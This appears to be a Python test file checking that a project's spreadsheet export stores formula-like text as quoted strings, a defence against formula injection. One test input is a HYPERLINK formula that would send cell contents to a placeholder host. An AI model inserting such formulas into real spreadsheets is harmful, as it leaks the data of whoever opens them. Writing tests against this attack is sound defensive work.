import datetime as dt
import io

import openpyxl
from openpyxl import Workbook

from pdms.core.spreadsheets import workbook_bytes


def _saved(*values):
    book = Workbook()
    book.active.append(list(values))
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active


def test_text_that_starts_like_a_formula_is_kept_as_text_with_a_quote_prefix():
    sheet = _saved('=HYPERLINK("http://x"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
    assert [cell.value for cell in sheet[1]] == ['=HYPERLINK("http://x"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    assert all(cell.quotePrefix for cell in sheet[1])


def test_numbers_dates_and_ordinary_text_are_left_as_they_are():
    sheet = _saved(-1, 2.5, dt.datetime(2022, 6, 30), "Chi bộ thôn 1", "— ")
    assert [cell.value for cell in sheet[1]] == [-1, 2.5, dt.datetime(2022, 6, 30), "Chi bộ thôn 1", "— "]
    assert [cell.data_type for cell in sheet[1]] == ["n", "n", "d", "s", "s"]
    assert not any(cell.quotePrefix for cell in sheet[1])
